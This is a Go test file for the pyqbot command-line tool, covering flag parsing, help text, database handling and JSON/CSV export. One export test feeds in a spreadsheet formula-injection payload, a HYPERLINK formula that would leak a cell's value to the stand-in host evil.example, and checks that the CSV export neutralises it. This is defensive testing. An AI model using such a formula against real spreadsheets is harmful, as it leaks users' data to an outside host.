package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/pyqbot/pyqbot/storage"
)

// emptyDB makes a migrated, empty database file for commands that read one.
func emptyDB(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "pyqbot.db")
	db, err := storage.Open(context.Background(), path)
	if err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

// Flags are accepted before, between and after the arguments, and before the command, for every
// subcommand (issue 12 item 8). Each row was misread by the standard flag package's
// stop-at-the-first-argument parsing.
func TestFlagsAnywhere(t *testing.T) {
	t.Parallel()
	db := emptyDB(t)
	dir := t.TempDir()
	fresh := filepath.Join(dir, "fresh.db")
	tests := []commandCase{
		{name: "backup FILE --db", args: []string{"backup", filepath.Join(dir, "a.db"), "--db", db}, stdout: "backed up " + db,
			check: func(t *testing.T) { mustStat(t, filepath.Join(dir, "a.db")) }},
		{name: "--db before backup", args: []string{"--db", db, "backup", filepath.Join(dir, "b.db")}, stdout: "backed up " + db},
		{name: "--db=PATH before backup", args: []string{"--db=" + db, "backup", filepath.Join(dir, "c.db")}, stdout: "backed up " + db},
		{name: "export --format after --db", args: []string{"export", "--db", db, "--format", "json"}, stdout: "[]"},
		{name: "--format before export", args: []string{"--format", "json", "--db", db, "export"}, stdout: "[]"},
		{name: "content lint DIR --no-run", args: []string{"content", "lint", "content/testdata/broken", "--no-run"}, code: 1,
			stdout: "checked (no snippets run)"},
		{name: "content --no-run lint DIR", args: []string{"content", "--no-run", "lint", "content/testdata/broken"}, code: 1,
			stdout: "checked (no snippets run)"},
		{name: "--no-run before content", args: []string{"--no-run", "content", "lint", "content/testdata/broken"}, code: 1,
			stdout: "checked (no snippets run)"},
		{name: "content stats --help", args: []string{"content", "stats", "--help"}, stdout: "Usage: pyqbot content stats"},
		{name: "--db before console", args: []string{"--db", fresh, "--user", "Ann", "console"}, stdin: "/pyq me\n", stdout: "Your record, Ann",
			check: func(t *testing.T) { mustStat(t, fresh) }},
		{name: "--db before run", args: []string{"--db", fresh, "run", "--user", "Bo"}, stdin: "/pyq me\n", stdout: "Your record, Bo"},
		{name: "--db with no command", args: []string{"--db", fresh, "--user", "Cy"}, stdin: "/pyq me\n", stdout: "Your record, Cy"},
		{name: "--url before healthcheck", args: []string{"--url", "http://127.0.0.1:1/healthz", "healthcheck", "--timeout", "2s"}, code: 1},
		{name: "version --help", args: []string{"version", "--help"}, stdout: "Prints the version."},
	}
	for _, tt := range tests {
		t.Run(tt.name, tt.run)
	}
}

// `--` ends the flags: what follows is an argument even when it starts with a dash.
func TestDoubleDashEndsFlags(t *testing.T) {
	db := emptyDB(t)
	t.Chdir(t.TempDir())
	if code, stdout, stderr := run(t, "", "backup", "--db", db, "--", "-odd.db"); code != 0 || !strings.Contains(stdout, "to -odd.db") {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", code, stdout, stderr)
	}
	mustStat(t, "-odd.db")
}

func mustStat(t *testing.T, path string) {
	t.Helper()
	if _, err := os.Stat(path); err != nil {
		t.Errorf("%s: %v", path, err)
	}
}

// Every command, and every content subcommand, prints its own usage for `pyqbot help X` and for
// `pyqbot X --help` (item 10: `help help` printed run's usage, `help content` the overview).
func TestHelpForEveryCommand(t *testing.T) {
	t.Parallel()
	for _, cmd := range [][]string{{"run"}, {"console"}, {"content"}, {"content", "lint"}, {"content", "export"}, {"content", "stats"},
		{"backup"}, {"export"}, {"healthcheck"}, {"version"}, {"help"}} {
		want := "Usage: pyqbot " + strings.Join(cmd, " ")
		for _, args := range [][]string{append([]string{"help"}, cmd...), append(slices.Clone(cmd), "--help")} {
			code, stdout, stderr := run(t, "", args...)
			if code != 0 || !strings.HasPrefix(stdout, want) || stderr != "" {
				t.Errorf("pyqbot %s: exit %d, stdout starts %q, want %q; stderr %q", strings.Join(args, " "), code, firstLine(stdout), want, stderr)
			}
		}
	}
	if code, _, stderr := run(t, "", "help", "frob"); code != 2 || !strings.Contains(stderr, `unknown command "frob"`) {
		t.Errorf("help frob: exit %d, stderr %q", code, stderr)
	}
}

func firstLine(s string) string { line, _, _ := strings.Cut(s, "\n"); return line }

// commandWord must know which flags take no value, or `pyqbot --no-run content lint` would read
// "content" as --no-run's value. Every boolean flag any command defines is in switchFlags:
// PrintDefaults shows a boolean as "-name" with no type after it.
func TestSwitchFlagsAreComplete(t *testing.T) {
	t.Parallel()
	flagLine := regexp.MustCompile(`(?m)^  -(\S+)(?: (\S+))?$`)
	seen := 0
	for _, cmd := range [][]string{{"run"}, {"console"}, {"content", "lint"}, {"content", "export"}, {"content", "stats"},
		{"backup"}, {"export"}, {"healthcheck"}, {"version"}, {"help"}} {
		_, stdout, _ := run(t, "", append(cmd, "--help")...)
		for _, m := range flagLine.FindAllStringSubmatch(stdout, -1) {
			seen++
			if m[2] == "" && !slices.Contains(switchFlags, m[1]) {
				t.Errorf("pyqbot %s: boolean flag -%s is missing from switchFlags", strings.Join(cmd, " "), m[1])
			}
		}
	}
	if seen < 8 {
		t.Fatalf("found %d flags in the commands' usage; the pattern no longer matches PrintDefaults", seen)
	}
}

// Commands that read a database never create one (item 6): `backup --db missing.db out.db` made an
// empty missing.db and "backed it up"; `export --db typo.db` printed a header. Driven through the
// built binary, as a user would type them.
func TestReadCommandsNeverCreateADatabase(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	missing, out := filepath.Join(dir, "missing.db"), filepath.Join(dir, "out.db")
	for _, args := range [][]string{
		{"backup", "--db", missing, out},
		{"export", "--db", missing},
		{"export", "--db", missing, "--format", "json"},
	} {
		cmd := exec.Command(binary, args...)
		cmd.Env = append(os.Environ(), "PYQBOT_CONFIG=")
		got, err := cmd.CombinedOutput()
		if code := cmd.ProcessState.ExitCode(); code != 1 || err == nil {
			t.Errorf("pyqbot %s: exit %d, want 1\n%s", strings.Join(args, " "), code, got)
		}
		if want := "database " + missing + " does not exist"; !strings.Contains(string(got), want) {
			t.Errorf("pyqbot %s: output lacks %q:\n%s", strings.Join(args, " "), want, got)
		}
		for _, p := range []string{missing, out} {
			if _, err := os.Stat(p); err == nil {
				t.Errorf("pyqbot %s created %s", strings.Join(args, " "), p)
			}
		}
	}
	if code, _, stderr := run(t, "", "export", "--db", dir); code != 1 || !strings.Contains(stderr, "is a directory") {
		t.Errorf("export --db DIR: exit %d, stderr %q", code, stderr)
	}
}

// `export --format json` is one JSON array like `content export` (it printed an object per line),
// --format is case-insensitive, and CSV cells a spreadsheet would run as formulas are neutralised
// (items 16 and 20).
func TestExportJSONArrayAndSafeCSV(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "x.db")
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"see the docs for this")`
	code, _, stderr := run(t, "/pyq filter kinds design\n/pyq today\n/as @ann\n/pyq answer "+hyperlink+"\n/as -bo\n/pyq answer a process pool for the CPU part\n", "console", "--db", db)
	if code != 0 {
		t.Fatalf("console: %s", stderr)
	}
	code, out, stderr := run(t, "", "export", "--db", db, "--format", "JSON")
	if code != 0 {
		t.Fatalf("export --format JSON: exit %d: %s", code, stderr)
	}
	var answers []map[string]any
	if err := json.Unmarshal([]byte(out), &answers); err != nil || len(answers) != 2 {
		t.Fatalf("export json is not one array of 2 answers (%v):\n%s", err, out)
	}
	if answers[0]["answer"] != hyperlink {
		t.Errorf("JSON keeps the answer as given: got %q", answers[0]["answer"]) // JSON is data, not a spreadsheet
	}
	code, out, stderr = run(t, "", "export", "--db", db, "--format", "CSV")
	if code != 0 {
		t.Fatalf("export --format CSV: exit %d: %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv = %q (%v)", out, err)
	}
	for i, want := range [][2]string{{"'@ann", "'" + hyperlink}, {"'-bo", "a process pool for the CPU part"}} {
		if got := [2]string{rows[i+1][9], rows[i+1][10]}; got != want {
			t.Errorf("row %d user_name, answer = %q, want %q", i+1, got, want)
		}
	}
	for _, c := range []struct{ in, want string }{{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"\tx", "'\tx"}, {"\rx", "'\rx"}, {"a=b", "a=b"}, {"", ""}, {"10", "10"}} {
		if got := csvSafe(c.in)[0]; got != c.want {
			t.Errorf("csvSafe(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// Terminal message ids stay unique across restarts against one database (item 19): they restarted
// at m1, so the reveal posted after a restart had the id of the question it revealed.
func TestConsoleMessageIDsUniqueAcrossRestarts(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "x.db")
	ids := regexp.MustCompile(`(?m)^\[#general(?: › thread of (\S+))?\] message (\S+)$`)
	seen := map[string]string{}
	for i, input := range []string{"/pyq today\n", "/pyq reveal\n", "/pyq today\n"} {
		s := startConsole(t, "--db", db, "--user", "lead")
		s.send(strings.TrimSpace(input))
		out := s.finish()
		found := ids.FindAllStringSubmatch(out, -1)
		if len(found) == 0 {
			t.Fatalf("run %d posted nothing:\n%s", i+1, out)
		}
		for _, m := range found {
			if m[1] != "" && seen[m[1]] == "" {
				t.Errorf("run %d replies in the thread of %s, which no earlier run posted", i+1, m[1])
			}
			if prev, dup := seen[m[2]]; dup {
				t.Errorf("run %d posted message %s, already used by %s", i+1, m[2], prev)
			}
			seen[m[2]] = fmt.Sprintf("run %d", i+1)
		}
	}
}
